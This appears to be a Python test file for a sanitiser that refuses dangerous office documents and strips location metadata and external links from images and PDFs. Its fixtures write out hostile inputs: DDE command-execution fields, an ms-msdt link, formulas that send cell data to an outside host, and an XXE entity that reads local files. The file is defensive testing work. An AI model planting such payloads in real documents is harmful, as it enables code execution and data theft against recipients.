"""Documents that order a program to do something are refused; what pictures tell beside themselves is taken out."""

import io
import zipfile
from pathlib import Path

import pikepdf
import pytest
from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.drawing.image import Image as Drawing
from PIL import Image

from red_genero.common.rewriting.kinds import Facts, Kind, Refusal
from red_genero.common.rewriting.photographs import bare
from red_genero.common.rewriting.rewriting import rewrite
from tests.rules import hostile

pytestmark = pytest.mark.once

EVERY = frozenset(kind.suffix for kind in Kind)
BEGIN, END = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'


def written(content: bytes, folder: Path) -> tuple[Facts, bytes]:
    source, target = folder / "recibido", folder / "reescrito"
    source.write_bytes(content)
    facts = rewrite(source, target, "archivo", EVERY)
    return facts, target.read_bytes()


def field(*pieces: str) -> str:
    inside = "".join(
        piece if piece.startswith("<") else f"<w:instrText>{piece}</w:instrText>"
        for piece in pieces
    )
    return f"{BEGIN}{inside}{END}"


def cell(formula: str) -> bytes:
    book = Workbook()
    book.worksheets[0]["A1"] = formula
    return saved(book)


def saved(book: Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def table(formula: str) -> bytes:
    return hostile.odt(f"<a xmlns:t='urn:t'><t:table-cell t:formula='{formula}'/></a>")


REFUSED: dict[str, tuple[bytes, str]] = {
    "small letters": (hostile.docx(body=field("ddeauto c:\\cmd.exe")), "office_dde"),
    "behind another field": (
        hostile.docx(body=field("PAGEREF x") + field("DDE", "AUTO cmd")),
        "office_dde",
    ),
    "first word made by a field": (
        hostile.docx(body=field(field(" QUOTE 68 68 69"), " cmd")),
        "office_dde",
    ),
    "field in one piece": (
        hostile.docx(body='<w:fldSimple w:instr=" includePicture http://example.org/a"/>'),
        "office_dde",
    ),
    "link to a program": (
        hostile.docx(body=field(' HYPERLINK "ms-msdt:/id"')),
        "office_dde",
    ),
    "list of recipients": (
        hostile.docx({"word/settings.xml": "<s><mailMerge/></s>"}),
        "office_dde",
    ),
    "page brought in": (hostile.docx(body="<w:altChunk/>"), "office_objects"),
    "program called picture": (
        hostile.docx({"word/media/image1.png": b"MZ\x90\0"}),
        "office_objects",
    ),
    "drawing with a document type": (
        hostile.docx({"word/a.vml": "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///'>]><a>&b;</a>"}),
        "office_broken",
    ),
    "formula that runs": (cell("=cmd|'/C calc'!A0"), "office_dde"),
    "formula that asks": (cell('=WEBSERVICE("http://example.org/"&A1)'), "office_dde"),
    "formula that draws from outside": (cell('=_xlfn.IMAGE("http://e.org/")'), "office_dde"),
    "sheet on another machine": (cell("='http://e.org/[b.xlsx]S'!A1"), "office_dde"),
    "control": (
        hostile.docx({"word/activeX/activeX1.xml": "<ocx/>"}),
        "office_macros",
    ),
    "ribbon": (hostile.docx({"customUI/customUI.xml": "<customUI onLoad='x'/>"}), "office_macros"),
    "open script": (
        hostile.odt("<a xmlns:s='urn:s'><s:script s:language='Basic'>Sub x</s:script></a>"),
        "office_macros",
    ),
    "connections": (hostile.docx({"xl/connections.xml": "<connections/>"}), "office_dde"),
    "old macros": (hostile.docx({"xl/macrosheets/s.xml": "<macrosheet/>"}), "office_macros"),
    "open formula that runs": (table('of:=DDE("soffice";"a";"b")'), "office_dde"),
    "open formula of another": (table("msoxl:=cmd|&apos;/C calc&apos;!A0"), "office_dde"),
}


@pytest.mark.parametrize("case", REFUSED)
def test_an_order_is_refused(case: str, tmp_path: Path) -> None:
    content, code = REFUSED[case]
    with pytest.raises(Refusal) as refusal:
        written(content, tmp_path)
    assert refusal.value.code == code


def test_ordinary_documents_pass(tmp_path: Path) -> None:
    fields = field(' TOC \\o "1-3" \\h ') + field(' HYPERLINK \\l "_Toc1" ')
    fields += field(' HYPERLINK "https://www.gob.mx/a:b" ') + field(" IF ", field("PAGE"), " = 1")
    assert written(hostile.docx(body=fields), tmp_path)[0].kind == "docx"
    assert written(table("of:=SUM({1;2|3;4})"), tmp_path)[0].kind == "odt"
    book = Workbook()
    sheet = book.worksheets[0]
    sheet.title = "A|B"
    sheet["A1"] = "='A|B'!B1&\"|\""
    sheet["A2"].comment = Comment("Nota", "Personal")
    sheet.add_image(Drawing(io.BytesIO(hostile.picture("PNG"))), "C3")
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=1, min_row=1, max_row=3))
    sheet.add_chart(chart, "D4")
    facts, content = written(saved(book), tmp_path)
    assert (facts.kind, facts.removed) == ("xlsx", ["autoría"])
    assert written(content, tmp_path)[1] == content


def test_an_address_that_does_not_say_that_it_leaves_is_sent_nowhere(tmp_path: Path) -> None:
    hidden = hostile.relation("image", "\\\\\\\\servidor\\a.png").replace(
        'TargetMode="External"', ""
    )
    facts, content = written(hostile.docx(rels=hidden), tmp_path)
    assert "vínculos externos" in facts.removed
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        assert b"servidor" not in package.read("word/_rels/document.xml.rels")


def test_a_drawn_shape_fetches_nothing(tmp_path: Path) -> None:
    shape = '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://example.org/a.png"/>'
    facts, content = written(
        hostile.docx({"word/a.vml": f"<xml>{shape}<br></xml>"}, body=shape), tmp_path
    )
    assert "vínculos externos" in facts.removed
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        everything = b"".join(package.read(name) for name in package.namelist())
    assert b"example.org" not in everything


def test_photographs_in_documents_do_not_tell_where_they_were_taken(tmp_path: Path) -> None:
    photograph = hostile.located()
    facts, content = written(hostile.docx({"word/media/image1.jpeg": photograph}), tmp_path)
    assert "datos de las imágenes" in facts.removed
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        kept = package.read("word/media/image1.jpeg")
    with Image.open(io.BytesIO(kept)) as after, Image.open(io.BytesIO(photograph)) as before:
        assert not after.getexif()
        assert after.tobytes() == before.tobytes()


def test_photographs_in_a_pdf_do_not_either(tmp_path: Path) -> None:
    def drawn(made: pikepdf.Pdf) -> None:
        image = pikepdf.Stream(made, hostile.located(), Filter=pikepdf.Name.DCTDecode)
        image.Metadata = made.make_indirect(pikepdf.Stream(made, b"<x:xmpmeta/>"))
        outside = pikepdf.Stream(made, b"", F="http://example.org/a")
        made.Root.Muestra = pikepdf.Array([made.make_indirect(image), made.make_indirect(outside)])

    facts, content = written(hostile.pdf(drawn), tmp_path)
    assert facts.removed == ["datos de las imágenes", "vínculos externos"]
    assert "Cámara".encode() not in content
    assert b"example.org" not in content
    assert b"xmpmeta" not in content


@pytest.mark.parametrize("kind", ["JPEG", "PNG"])
def test_a_picture_keeps_its_pixels_and_loses_its_tail(kind: str) -> None:
    whole = hostile.picture(kind, progressive=True, comment=b"Ana")
    kept = bare(whole + b"PK\x03\x04 otro archivo")
    assert b"otro archivo" not in kept
    assert b"Ana" not in kept
    with Image.open(io.BytesIO(kept)) as after, Image.open(io.BytesIO(whole)) as before:
        assert after.tobytes() == before.tobytes()
    for cut in range(0, len(whole), 7):
        assert bare(whole[:cut]) is not None
